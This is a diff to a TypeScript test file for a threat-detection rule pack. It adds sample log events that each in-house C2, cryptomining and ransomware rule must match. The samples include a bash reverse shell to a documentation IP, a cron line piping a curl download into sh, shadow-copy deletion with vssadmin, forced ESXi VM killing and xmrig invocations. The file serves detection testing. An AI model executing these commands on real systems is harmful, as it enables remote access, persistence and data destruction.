@@ -11,7 +11,8 @@ import { loadContent } from './load-content.js'
 const folder = fileURLToPath(new URL('../../content', import.meta.url))
 const content = loadContent([folder])
 const { materials, faults } = makeMaterials(content)
-const own = materials.rules.rules.filter(rule => !rule.file.startsWith('rules/sigmahq/'))
+const own = materials.rules.rules.filter(rule => !/^rules\/(?:sigmahq|guanjia-)/.test(rule.file))
+const ours = materials.rules.rules.filter(rule => rule.file.startsWith('rules/guanjia-'))
 const receivedAt = '2026-11-24T08:30:00.000Z'
 
 function hitsOf(lines: readonly string[]): Hit[] {
@@ -22,6 +23,31 @@ function hitsOf(lines: readonly string[]): Hit[] {
 const request = (target: string, { method = 'GET', status = 200, agent = 'curl/8' } = {}): string =>
   `192.0.2.7 - - [24/Nov/2026:08:00:00 +0800] "${method} ${target} HTTP/1.1" ${status} 12 "-" "${agent}"`
 const line = (text: string): string => `Nov 24 08:00:00 web1 ${text}`
+
+const recorded = (logsource: object, event: object): string => JSON.stringify({ logsource, event })
+const process = (product: string, CommandLine: string, Image = '/usr/bin/x'): string =>
+  recorded({ product, category: 'process_creation' }, { CommandLine, Image })
+
+/** The same for the rules of our own. */
+const lineByOwnRule: Readonly<Record<string, string>> = {
+  'guanjia-c2/guanjia_c2_certificate.yml': recorded({ category: 'tls' }, { tls: { server: { issuer: 'CN=Major Cobalt Strike' } } }),
+  'guanjia-c2/guanjia_c2_reverse_shell_linux.yml': process('linux', 'bash -i >& /dev/tcp/192.0.2.7/443 0>&1'),
+  'guanjia-c2/guanjia_c2_tor.yml': recorded({ category: 'dns' }, { query: 'abcdefghij234567.onion' }),
+  'guanjia-mining/guanjia_mining_dns_pool.yml': recorded({ category: 'dns' }, { query: 'pool.minexmr.example' }),
+  'guanjia-mining/guanjia_mining_persistence_linux.yml': process('linux', 'sh -c "(crontab -l; echo \'* * * * * curl http://192.0.2.7/a | sh\') "'),
+  'guanjia-mining/guanjia_mining_preload_linux.yml': recorded(
+    { product: 'linux', category: 'file_event' },
+    { TargetFilename: '/etc/ld.so.preload' },
+  ),
+  'guanjia-mining/guanjia_mining_process_linux.yml': process('linux', './a -o stratum+tcp://192.0.2.7:3333', '/tmp/.x/xmrig'),
+  'guanjia-mining/guanjia_mining_process_windows.yml': process('windows', 'x.exe --donate-level 1', String.raw`C:\Users\a\xmrig.exe`),
+  'guanjia-ransomware/guanjia_ransomware_hypervisor.yml': process('linux', 'esxcli --formatter=csv vm process kill --type=force'),
+  'guanjia-ransomware/guanjia_ransomware_note.yml': recorded(
+    { category: 'file_event' },
+    { TargetFilename: String.raw`C:\Users\a\Desktop\HOW_TO_DECRYPT.txt` },
+  ),
+  'guanjia-ransomware/guanjia_ransomware_shadow_copies.yml': process('windows', 'vssadmin.exe delete shadows /all /quiet'),
+}
 
 /** A line per rule that an attacker's doing really leaves in such a log. */
 const lineByRule: Readonly<Record<string, string>> = {
@@ -69,7 +95,7 @@ describe('shipped rules', () => {
   })
 
   it('of the pack keep author, licence and origin, and are worth an alert', () => {
-    const pack = materials.rules.rules.filter(rule => !own.includes(rule))
+    const pack = materials.rules.rules.filter(rule => !own.includes(rule) && !ours.includes(rule))
 
     expect(pack.length).toBeGreaterThan(1_300)
     for (const rule of pack) {
@@ -103,6 +129,11 @@ describe('shipped rules', () => {
     expect(hitsOf(lines)).toEqual([])
   })
 
+  it('of our own speak for what they describe, each', () => {
+    expect(ours.map(({ file }) => file.slice('rules/'.length)).sort()).toEqual(Object.keys(lineByOwnRule).sort())
+    for (const { file, id } of ours) expect(hitsOf([lineByOwnRule[file.slice('rules/'.length)]!]).map(hit => hit.ruleId)).toContain(id)
+  })
+
   it('are listed with author and origin in the folder’s README, beside the licence', () => {
     const readme = readFileSync(`${folder}/rules/README.md`, 'utf8')
 
@@ -116,17 +147,17 @@ describe('shipped rules', () => {
 
 describe('shipped indicators', () => {
   it('are only examples that no real traffic can hit', () => {
-    const reserved = /^(?:192\.0\.2|198\.51\.100|203\.0\.113)\.|^2001:db8:|\.example$/
+    const reserved = /^2001:db8:|\.example$/
 
     expect(content.indicators.length).toBeGreaterThan(0)
     expect(content.indicators.filter(one => !reserved.test(one.value))).toEqual([])
   })
 
   it('tell who knocks from who is called', () => {
-    const [knock] = hitsOf([request('/').replace('192.0.2.7', '203.0.113.66')])
-    const [call] = hitsOf(['{"@timestamp":"2026-11-24T00:00:00Z","source":{"ip":"10.1.2.3"},"destination":{"ip":"198.51.100.23","port":443}}'])
+    const [knock] = hitsOf([request('/').replace('192.0.2.7', '2001:db8:bad::66')])
+    const [call] = hitsOf(['{"@timestamp":"2026-11-24T00:00:00Z","source":{"ip":"10.1.2.3"},"dns":{"question":{"name":"c2.malware.example"}}}'])
 
-    expect(knock).toMatchObject({ eventType: 'scan_probe', severity: 'medium', attacker: { ip: '203.0.113.66' }, strength: 0.4 })
+    expect(knock).toMatchObject({ eventType: 'scan_probe', severity: 'medium', attacker: { ip: '2001:db8:bad::66' }, strength: 0.4 })
     expect(call).toMatchObject({ eventType: 'malicious_encrypted_c2', severity: 'high', victim: { ip: '10.1.2.3' }, strength: 1 })
   })
 })
